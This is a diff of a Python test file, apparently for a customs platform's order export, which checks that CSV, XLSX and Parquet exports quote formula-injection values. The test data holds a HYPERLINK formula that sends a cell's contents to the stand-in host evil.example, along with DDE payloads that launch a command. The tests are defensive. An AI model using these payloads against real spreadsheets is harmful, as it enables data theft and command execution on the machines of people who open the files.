@@ -20,6 +20,7 @@ from engine.customs import examples
 from engine.identity.enterprises import DEMO
 from tests.conftest import login
 from ui.app import create_app
+from ui.routers.customs.exports import COLUMNS
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 TRIGGERS = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -71,10 +72,8 @@ def test_a_formula_consignee_leaves_the_order_export_quoted(platform, fmt):
     rows = cells(response)
     no_formula(rows)
     assert any(value == "'" + EVIL for row in rows for value in row)
-    header = rows[0] if fmt != "parquet" else ["order_no", "ebp_code", "ebc_code", "ebc_name", "buyer_name",
-                                                   "consignee", "goods_value"]
-    goods = next(row for row in rows if "'" + EVIL in row)[header.index("goods_value")]
-    assert Decimal(str(goods)) == Decimal("794.00")  # the amount is untouched, whatever type the read model gives
+    paid = next(row for row in rows if "'" + EVIL in row)[COLUMNS.index("amount")]  # #18: the list's columns
+    assert Decimal(str(paid)) == Decimal(str(examples.import_order("FX0001")["acturalPaid"]))  # the amount untouched
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
